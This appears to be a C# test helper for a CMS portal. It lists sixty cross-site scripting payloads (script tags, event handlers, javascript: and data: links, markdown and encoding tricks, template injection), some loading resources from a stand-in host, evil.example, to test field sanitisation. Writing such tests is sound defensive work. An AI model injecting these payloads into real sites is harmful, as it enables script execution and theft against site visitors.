namespace Portal.Tests.Cms;

/// <summary>
/// Sixty ways to bring a script into a page through a field. Whatever of it became an element or an attribute is found by
/// its mark: elements named <c>x-mark</c>, attributes named <c>data-mark</c>, or what a browser would run.
/// </summary>
internal static class Injections
{
    /// <summary>All of them, so many to a value, a line each.</summary>
    public static IEnumerable<string> By(int count) => All.Chunk(count).Select(each => string.Join('\n', each));

    public static IReadOnlyList<string> All { get; } =
    [
        "<script>mark(1)</script>",
        "<ScRiPt>mark(1)</sCrIpT>",
        "<script src=https://evil.example/mark.js></script>",
        "<script src=//evil.example/mark.js></script>",
        "</script><script>mark(1)</script>",
        "</title><script>mark(1)</script>",
        "</textarea><script>mark(1)</script>",
        "</style><script>mark(1)</script>",
        "--><script>mark(1)</script><!--",
        "]]><script>mark(1)</script>",
        "<x-mark>",
        "</p><x-mark>",
        "\"><x-mark>",
        "'><x-mark>",
        "`><x-mark>",
        "\" data-mark=\"1",
        "' data-mark='1",
        "x data-mark=1 ",
        "\" onmouseover=\"mark(1)",
        "' onfocus='mark(1)' autofocus='",
        "\"autofocus onfocus=mark(1) x=\"",
        "<img src=x onerror=mark(1)>",
        "<img src=\"x\" onerror=\"mark(1)\"/>",
        "<img/src=x/onerror=mark(1)>",
        "<img src=`x` onerror=mark(1)>",
        "<svg onload=mark(1)>",
        "<svg><script>mark(1)</script></svg>",
        "<svg><animate onbegin=mark(1) attributeName=x dur=1s>",
        "<math><mtext><table><mglyph><style><img src onerror=mark(1)>",
        "<body onload=mark(1)>",
        "<iframe srcdoc=\"<script>mark(1)</script>\"></iframe>",
        "<iframe src=javascript:mark(1)>",
        "<object data=javascript:mark(1)>",
        "<embed src=javascript:mark(1)>",
        "<form action=javascript:mark(1)><button>x</button></form>",
        "<button formaction=javascript:mark(1)>x</button>",
        "<a href=\"javascript:mark(1)\">x</a>",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content=\"0;url=javascript:mark(1)\">",
        "<link rel=stylesheet href=//evil.example/mark.css>",
        "<style>@import '//evil.example/mark.css';</style>",
        "<details open ontoggle=mark(1)>x</details>",
        "<video><source onerror=mark(1)></video>",
        "<input onfocus=mark(1) autofocus>",
        "<template><x-mark></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=mark(1)>\">",
        "[x](javascript:mark(1))",
        "[x](JaVaScRiPt:mark(1))",
        "[x](java&#10;script:mark(1))",
        "[x](data:text/html,<script>mark(1)</script>)",
        "[x](vbscript:mark(1))",
        "![x](javascript:mark(1))",
        "![x\" onerror=\"mark(1)](x)",
        "[x]: javascript:mark(1)\n\n[x]",
        "<javascript:mark(1)>",
        "&lt;script&gt;mark(1)&lt;/script&gt;",
        "&#60;script&#62;mark(1)&#60;/script&#62;",
        "%3Cscript%3Emark(1)%3C/script%3E",
        "{{constructor.constructor('mark(1)')()}}",
        "::: callout tone=important title=\"\" onclick=\"mark(1)\"\n<x-mark>\n:::",
    ];
}
